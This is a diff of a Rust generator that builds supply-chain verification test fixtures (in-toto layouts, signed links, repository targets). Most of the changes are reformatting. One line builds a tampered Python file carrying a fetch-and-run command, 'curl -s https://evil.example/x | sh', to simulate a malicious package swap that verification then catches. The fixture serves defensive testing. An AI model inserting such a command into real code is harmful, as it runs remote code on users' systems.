@@ -52,7 +52,12 @@ fn untar(last_source_step: &str) -> Value {
     inspection(
         "untar",
         &["sh", "-c", "tar xzf demo-project-*.tar.gz"],
-        &["MATCH demo-project-*.tar.gz WITH PRODUCTS FROM package", "ALLOW *.layout", "ALLOW *.pub", "DISALLOW *"],
+        &[
+            "MATCH demo-project-*.tar.gz WITH PRODUCTS FROM package",
+            "ALLOW *.layout",
+            "ALLOW *.pub",
+            "DISALLOW *",
+        ],
         &[
             "MATCH demo-project-*.tar.gz WITH PRODUCTS FROM package",
             &format!("MATCH demo-project/foo.py WITH PRODUCTS FROM {last_source_step}"),
@@ -66,7 +71,13 @@ fn untar(last_source_step: &str) -> Value {
 /// Layout v1: Alice alone clones and packages.
 fn layout_v1(a: &Actors) -> Vec<u8> {
     let steps = vec![
-        step("clone", &["git", "clone", GIT_URL], &[], &["CREATE demo-project/foo.py", "DISALLOW *"], &[&a.alice]),
+        step(
+            "clone",
+            &["git", "clone", GIT_URL],
+            &[],
+            &["CREATE demo-project/foo.py", "DISALLOW *"],
+            &[&a.alice],
+        ),
         step(
             "package",
             &["make", "dist"],
@@ -88,7 +99,13 @@ fn layout_v1(a: &Actors) -> Vec<u8> {
 /// Layout v2: Bob's update-version step between clone and package.
 fn layout_v2(a: &Actors) -> Vec<u8> {
     let steps = vec![
-        step("clone", &["git", "clone", GIT_URL], &[], &["CREATE demo-project/foo.py", "DISALLOW *"], &[&a.alice]),
+        step(
+            "clone",
+            &["git", "clone", GIT_URL],
+            &[],
+            &["CREATE demo-project/foo.py", "DISALLOW *"],
+            &[&a.alice],
+        ),
         step(
             "update-version",
             &[],
@@ -115,11 +132,22 @@ fn layout_v2(a: &Actors) -> Vec<u8> {
 }
 
 fn tarball(foo: &[u8]) -> Vec<u8> {
-    tar_gz(&[TarEntry { path: "demo-project/", data: None }, TarEntry { path: "demo-project/foo.py", data: Some(foo) }])
+    tar_gz(&[
+        TarEntry { path: "demo-project/", data: None },
+        TarEntry { path: "demo-project/foo.py", data: Some(foo) },
+    ])
 }
 
 /// Publishes a package and its links (signed by the functionaries) in the online role.
-fn release(repo: &mut Repo, version: &str, layout_path: &str, pubkey_paths: &[String], links: &[(&str, &SigningKey, Value)], tarball: Vec<u8>, layout_keys: Vec<String>) -> Release {
+fn release(
+    repo: &mut Repo,
+    version: &str,
+    layout_path: &str,
+    pubkey_paths: &[String],
+    links: &[(&str, &SigningKey, Value)],
+    tarball: Vec<u8>,
+    layout_keys: Vec<String>,
+) -> Release {
     let link_files: Vec<(String, Vec<u8>)> =
         links.iter().map(|(s, k, signed)| (link_name(s, k), metablock(signed, &[k]))).collect();
     let dir = sha256(&link_files[0].1);
@@ -132,7 +160,12 @@ fn release(repo: &mut Repo, version: &str, layout_path: &str, pubkey_paths: &[St
     let package_path = format!("packages/{PROJECT}/{PROJECT}-{version}.tar.gz");
     let mut custom = vec![layout_path.to_owned()];
     custom.extend(link_paths.iter().cloned());
-    repo.add_target(ONLINE_ROLE, &package_path, &tarball, Some(json!({"in-toto": custom, "root-layout-type": "core"})));
+    repo.add_target(
+        ONLINE_ROLE,
+        &package_path,
+        &tarball,
+        Some(json!({"in-toto": custom, "root-layout-type": "core"})),
+    );
     Release {
         package_path,
         tarball,
@@ -144,7 +177,13 @@ fn release(repo: &mut Repo, version: &str, layout_path: &str, pubkey_paths: &[St
 }
 
 fn clone_link(foo: &[u8]) -> Value {
-    link("clone", &["git", "clone", GIT_URL], json!({}), intoto::artifacts(&[("demo-project/foo.py", foo)]), "")
+    link(
+        "clone",
+        &["git", "clone", GIT_URL],
+        json!({}),
+        intoto::artifacts(&[("demo-project/foo.py", foo)]),
+        "",
+    )
 }
 
 fn package_link(foo: &[u8], name: &str, tgz: &[u8]) -> Value {
@@ -247,7 +286,10 @@ pub fn generate(out: &mut Files) {
         "1.0",
         &l1,
         &pubs,
-        &[("clone", &actors.alice, clone_link(&foo_10)), ("package", &actors.alice, package_link(&foo_10, &name_10, &tgz_10))],
+        &[
+            ("clone", &actors.alice, clone_link(&foo_10)),
+            ("package", &actors.alice, package_link(&foo_10, &name_10, &tgz_10)),
+        ],
         tgz_10,
         alice_keys.clone(),
     );
@@ -290,8 +332,9 @@ pub fn generate(out: &mut Files) {
         "\n\ndef goodbye():\n    return \"Goodbye from demo-project\"\n\n\nimport os; os.system(\"curl -s https://evil.example/x | sh\")\n",
     );
     let tgz_evil = tarball(&foo_evil);
-    let custom = repo.roles.iter().find(|r| r.name == ONLINE_ROLE).expect("online role")
-        .targets[&r2.package_path]["custom"].clone();
+    let custom = repo.roles.iter().find(|r| r.name == ONLINE_ROLE).expect("online role").targets
+        [&r2.package_path]["custom"]
+        .clone();
     repo.add_target(ONLINE_ROLE, &r2.package_path, &tgz_evil, Some(custom));
     repo.publish();
     let act3 = repo.files.clone();
@@ -348,7 +391,8 @@ pub fn generate(out: &mut Files) {
         "unconsumed_by": "MATCH demo-project-*.tar.gz WITH PRODUCTS FROM package",
     });
     // As python in-toto 3.1.0 prints it with PYTHONHASHSEED=0 (the queue order follows set order).
-    let (layout_file, pub_file) = (format!("{}", "2.core.root.layout"), format!("{}.pub", actors.alice.keyid()));
+    let (layout_file, pub_file) =
+        (format!("{}", "2.core.root.layout"), format!("{}.pub", actors.alice.keyid()));
     expect3["reference_error"] = json!(format!(
         "RuleVerificationError: 'DISALLOW *' matched the following artifacts: ['{name_11}']\n\
          Full trace for 'expected_materials' of item 'untar':\n\
